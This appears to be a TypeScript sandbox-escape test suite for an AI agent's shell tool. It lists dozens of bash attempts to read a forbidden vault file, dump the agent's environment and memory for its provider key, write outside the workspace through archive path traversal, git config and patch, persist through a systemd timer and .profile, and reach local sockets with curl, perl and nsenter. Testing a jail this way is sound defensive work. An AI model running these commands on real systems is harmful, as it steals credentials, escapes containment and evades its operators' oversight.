/**
 * Attempts at the shell that need the whole program: several calls, its process, its files, what it leaves
 * running.
 */
import { SECRET } from "../conformance/sandbox/scene.ts";
import { type Attempt, bash, exists, textOf } from "./attack_lab.ts";

const makes = (name: string, path: string, ...lines: string[]): Attempt => ({
  name,
  calls: lines.map((line) => bash(line)),
  succeeded: (s) => exists(s.fill(path)),
});

const changes = (name: string, path: string, ...lines: string[]): Attempt => ({
  name,
  calls: lines.map((line) => bash(line)),
  succeeded: async (s) => (await textOf(s.fill(path))).includes("pwned"),
});

const reveals = (name: string, ...lines: string[]): Attempt => ({
  name,
  calls: lines.map((line) => bash(line)),
  succeeded: (_s, { stdout }) =>
    [SECRET, btoa(SECRET).slice(0, 16), hex(SECRET)].some((shape) =>
      stdout.replace(/\s/g, "").includes(shape)
    ),
});

const prints = (name: string, what: RegExp, ...lines: string[]): Attempt => ({
  name,
  calls: lines.map((line) => bash(line)),
  succeeded: (_s, { stdout }) => what.test(stdout),
});

const connects = (name: string, kind: string, line: string): Attempt => ({
  name,
  calls: [bash(line)],
  succeeded: (s) => s.reached.includes(kind),
});

/** Stopped by more than the jail, or not to be tried without it. */
const unproven = (attempt: Attempt): Attempt => ({ ...attempt, unproven: true });

function hex(text: string): string {
  return new TextEncoder().encode(text).toHex();
}

const FILE = "{vault}/secret.txt";

const READS: readonly Attempt[] = [
  reveals("base64 of a forbidden file", `base64 ${FILE}`),
  reveals("a hex dump of a forbidden file", `xxd -p ${FILE} | tr -d '\\n'`),
  reveals("dd of a forbidden file", `dd if=${FILE} 2>/dev/null`),
  reveals("cp -r of a forbidden directory", "cp -r {vault} v && cat v/secret.txt"),
  reveals("find -newer with -exec", "find {vault}/.. -newer /etc/hostname -name 'secret*' -exec cat {} +"),
  reveals("tar through a symlink", "ln -s {vault} v && tar -chf - v | tar -xOf - v/secret.txt"),
  reveals("zip through a symlink", "ln -s {vault} v && zip -qr z.zip v && unzip -p z.zip v/secret.txt"),
  reveals("a shell that sources a forbidden file", `. ${FILE} 2>&1`),
  reveals("mapfile", `mapfile lines < ${FILE}; echo "\${lines[@]}"`),
  reveals("perl", `perl -pe 1 ${FILE}`),
  reveals(
    "an editor without a terminal",
    `sed -n p ${FILE}; awk 1 ${FILE}; head ${FILE}; sort ${FILE}; rev ${FILE} | rev`,
  ),
  reveals("a loop of a file system walk", 'for f in "{vault}"/* "{vault}"/.[a-z]*; do cat "$f"; done'),
  reveals("git clone of a forbidden repository", "git clone -q {vault} v; cat v/secret.txt"),
  reveals(
    "git with the directory of a forbidden repository",
    "git --git-dir={vault}/.git show HEAD:secret.txt",
  ),
  reveals(
    "git archive of a forbidden repository",
    "git archive --remote={vault} HEAD | tar -xOf - secret.txt",
  ),
  reveals(
    "objects of a forbidden repository",
    "GIT_ALTERNATE_OBJECT_DIRECTORIES={vault}/.git/objects git --git-dir={vault}/.git log -p",
  ),
  reveals("git grep without an index", "cd {vault}/..; git grep --no-index -h outside vault"),
  reveals("the agent's view of the file system", `cat /proc/{agent}/root${FILE}`),
  reveals("the agent's working directory", "cat /proc/{agent}/cwd/../vault/secret.txt"),
  unproven(reveals("a recursive bind mount", "mkdir m; mount --rbind {vault}/.. m; cat m/vault/secret.txt")),
  unproven(reveals(
    "an overlay of the parent",
    "mkdir u w m; mount -t overlay o -o lowerdir={vault}/..,upperdir=u,workdir=w m; cat m/vault/secret.txt",
  )),
  reveals("a copy made by a symlink and a later call", "ln -s {vault} v", "cat v/secret.txt"),
  unproven(reveals("a working directory inside a forbidden directory", "cd {vault}", "cat secret.txt")),
  unproven(
    reveals("a forged working directory", "trap 'printf \"\\\\036{vault}\" >&9' EXIT", "cat secret.txt"),
  ),
  prints("the agent's environment", /REASONIX_HOME=|KEY=provider/, "tr '\\0' '\\n' < /proc/{agent}/environ"),
  prints(
    "the agent's memory",
    /\d-yek-redivorp/,
    `python3 -c '
import re
m = open("/proc/{agent}/mem", "rb")
for line in open("/proc/{agent}/maps"):
    r = re.match("(\\w+)-(\\w+) rw", line)
    if not r: continue
    m.seek(int(r[1], 16))
    try: found = re.search(rb"provider-key-[0-9]+", m.read(min(int(r[2], 16) - int(r[1], 16), 1 << 26)))
    except (OSError, OverflowError, ValueError): continue
    if found: print(found[0].decode()[::-1]); break
'`,
  ),
  prints("the agent's open files", /->/, "ls -l /proc/{agent}/fd"),
  unproven(prints(
    "a debugger at the agent",
    /REASONIX_HOME|attached/i,
    "strace -p {agent} -o t & sleep 0.1; cat t; gdb -p {agent} -batch -ex 'info proc' 2>/dev/null | grep -i reasonix_home",
  )),
  unproven(
    prints("the agent's key by name", /provider-key-\d/, 'echo "$KEY"; env; set; export -p; declare -p'),
  ),
];

const WRITES: readonly Attempt[] = [
  makes(
    "an archive whose link leads outside",
    "{out}/pwn",
    "ln -s {out} d && tar -cf a.tar d && rm d && mkdir d && echo > d/pwn && tar -rf a.tar d/pwn && rm -r d && tar -xf a.tar --keep-directory-symlink -P",
  ),
  makes(
    "a python archive with .. in names",
    "{out}/pwn",
    `python3 -c 'import tarfile,io; t=tarfile.open("a.tar","w"); i=tarfile.TarInfo("../outside/pwn"); t.addfile(i,io.BytesIO()); t.close(); tarfile.open("a.tar").extractall(**({"filter": "fully_trusted"} if hasattr(tarfile, "fully_trusted_filter") else {}))'`,
  ),
  makes(
    "a zip archive with .. in names",
    "{out}/pwn",
    `python3 -c 'import zipfile; z=zipfile.ZipFile("a.zip","w"); z.writestr("../outside/pwn","x"); z.close()'; unzip -: -o a.zip`,
  ),
  makes("cpio or rsync style copies", "{out}/pwn", "ln -s {out} l; cp -rT src l/pwn; install -d l/pwn"),
  makes("a git work tree outside", "{out}/w", "git worktree add {out}/w"),
  makes("git init outside", "{out}/r", "git init -q {out}/r"),
  makes(
    "a patch that leaves the directory",
    "{out}/pwn",
    "printf '%s\\n' '--- /dev/null' '+++ outside/pwn' '@@ -0,0 +1 @@' '+x' > p; cd .. && patch -p0 < {ws}/p",
  ),
  makes("a file in the agent's root", "{out}/pwn", "echo > /proc/{agent}/root{out}/pwn"),
  unproven(makes("a relative path from a later call", "{out}/pwn", "cd {out}", "echo > pwn")),
  unproven(
    makes(
      "a forged working directory outside",
      "{out}/pwn",
      "trap 'printf \"\\\\036{out}\" >&9' EXIT",
      "echo > pwn",
    ),
  ),
  unproven(changes(
    "a bind mount over the workspace",
    "{out}/secret.txt",
    "mount --bind {out} src; echo pwned > src/secret.txt",
  )),
  changes("git's settings of the user", "{user}/.gitconfig", "git config --global core.pager pwned"),
  changes(
    "git's settings by another way",
    "{ws}/.git/config",
    "GIT_CONFIG={ws}/.git/config git config alias.x '!pwned'; git config --file .git/config alias.x '!pwned'",
  ),
  changes(
    "git's settings through a link",
    "{ws}/.git/config",
    "ln -s .git/config c; echo pwned >> c; ln -f .git/config h; echo pwned >> h",
  ),
  makes(
    "a timer of the user",
    "{user}/.config/systemd/user/x.timer",
    "mkdir -p {user}/.config/systemd/user && echo > {user}/.config/systemd/user/x.timer",
  ),
  makes("a login item", "{user}/.profile", "echo pwned > {user}/.profile"),
];

const REACH: readonly Attempt[] = [
  connects("curl", "tcp", "curl -s --max-time 2 http://127.0.0.1:{tcp}/?d=secret"),
  connects("python", "tcp", `python3 -c 'import socket; socket.create_connection(("127.0.0.1",{tcp}),2)'`),
  connects("perl", "tcp", `perl -MIO::Socket::INET -e 'IO::Socket::INET->new("127.0.0.1:{tcp}") or die'`),
  connects(
    "a datagram by perl",
    "udp",
    `perl -MIO::Socket::INET -e 'IO::Socket::INET->new(PeerAddr=>"127.0.0.1:{udp}",Proto=>"udp")->send("x")'`,
  ),
  connects("git over the network", "tcp", "git ls-remote http://127.0.0.1:{tcp}/x.git"),
  connects("git's own protocol", "tcp", "git ls-remote git://127.0.0.1:{tcp}/x.git"),
  connects(
    "a Unix socket by perl",
    "unix",
    `perl -MIO::Socket::UNIX -e 'IO::Socket::UNIX->new("{unix}") or die'`,
  ),
  connects("a Unix socket by curl", "unix", "curl -s --max-time 2 --unix-socket {unix} http://x/"),
  connects(
    "the network of another process",
    "tcp",
    "nsenter -t {agent} -n curl -s --max-time 2 http://127.0.0.1:{tcp}/",
  ),
  unproven(prints("a name server", /\d+\.\d+\.\d+\.\d+|::1/, "getent ahosts example.com")),
];

export const CLI_ATTACKS: readonly Attempt[] = [...READS, ...WRITES, ...REACH];
